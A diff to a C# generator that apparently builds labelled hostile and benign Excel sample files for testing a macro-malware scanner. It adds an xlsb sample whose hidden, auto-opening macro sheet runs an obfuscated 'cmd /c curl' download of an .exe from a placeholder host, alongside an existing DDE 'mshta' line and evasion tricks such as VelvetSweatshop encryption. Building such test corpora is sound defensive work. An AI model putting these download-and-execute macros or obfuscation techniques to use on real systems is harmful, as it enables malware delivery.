@@ -16,11 +16,13 @@ internal sealed class MacroSheetBooks : ISampleKind
         yield return Hostile(random, "encrypted xls with a macro sheet", "xls", Binary(random).ToFile("VelvetSweatshop", random.Bytes(16)), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
         yield return Hostile(random, "xlsm with a macro sheet", "xlsm", Package(random), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
         yield return Hostile(random, "encrypted xlsm with a macro sheet", "xlsx", AgileWriter.Encrypt(Package(random), "VelvetSweatshop", random), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
+        yield return Hostile(random, "xlsb with a macro sheet", "xlsb", Records(random), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
         yield return Hostile(random, "xls that asks a program by DDE", "xls", Plain(random).Service(random.Pick(["cmd", "CMD.exe", "MSEXCEL"]), random.Pick(["/c ", @"\..\..\..\Windows\System32\cmd.exe /c "]) + $"mshta https://{random.Word()}.example/{random.Word()}").ToFile(), "dynamic-data-exchange");
 
         yield return Benign(random, "xls", "xls", Plain(random).ToFile());
         yield return Benign(random, "xls with hidden sheets", "xls", Plain(random).Sheet("Lists", hidden: 1).Text(0, 0, random.Word()).Sheet("Settings", hidden: 2).Text(0, 0, random.Word()).ToFile());
         yield return Benign(random, "xls with a macro sheet of old", "xls", Plain(random).Sheet("Macro1", macro: true).Text(0, 0, "Sort").Formula(1, 0, XlmTokens.Call(0x8027, XlmTokens.Number(1))).Formula(2, 0, XlmTokens.Call(XlmTokens.Alert, XlmTokens.Text("Done"))).Formula(3, 0, XlmTokens.Call(55)).ToFile());
+        yield return Benign(random, "xlsb", "xlsb", new Biff12Writer().Sheet("Plan").Text(0, 0, random.Word()).Formula(0, 1, XlmTokens.Call(4, XlmTokens.Number(random.Next(99)), XlmTokens.Number(2))).ToArray());
         yield return Benign(random, "xls with quotations", "xls", Plain(random).Service("RSS", $"{random.Next(1_000, 9_999)}.T").ToFile());
         yield return Benign(random, "xlsx encrypted for its reader", "xlsx", AgileWriter.Encrypt(new OoxmlWriter().Sheet("Sheet1", [("A1", random.Word())]).ToArray(), random.Word(), random));
     }
@@ -79,6 +81,20 @@ internal sealed class MacroSheetBooks : ISampleKind
 
     private static byte[] Characters(Random random, string text) =>
         text.Select(c => random.Chance(0.8) ? XlmTokens.Fixed(XlmTokens.Char, XlmTokens.Number(c)) : XlmTokens.Text(c.ToString())).Aggregate(XlmTokens.Join);
+
+    private static byte[] Records(Random random)
+    {
+        var (row, column) = (random.Next(200), random.Next(60));
+        var command = $"cmd /c curl https://{random.Word()}.example/{random.Word()} -o %TEMP%\\{random.Word()}.exe";
+        var hidden = random.Chance(0.5)
+            ? command.Chunk(random.Next(3, 9)).Select(piece => Biff12Writer.TextToken(new string(piece))).Aggregate(XlmTokens.Join)
+            : command.Select(c => XlmTokens.Fixed(XlmTokens.Char, XlmTokens.Number(c))).Aggregate(XlmTokens.Join);
+        return new Biff12Writer()
+            .Sheet("Plan").Text(0, 0, random.Word())
+            .Sheet(random.Word(), macro: true, hidden: random.Next(3)).Formula(row, column, XlmTokens.Call(XlmTokens.Exec, hidden)).Formula(row + 1, column, XlmTokens.Call(XlmTokens.Halt))
+            .Name(random.Pick(["_xlnm.Auto_Open", $"auto_open{random.Word()}"]), 1, row, column)
+            .ToArray();
+    }
 
     private static byte[] Package(Random random)
     {
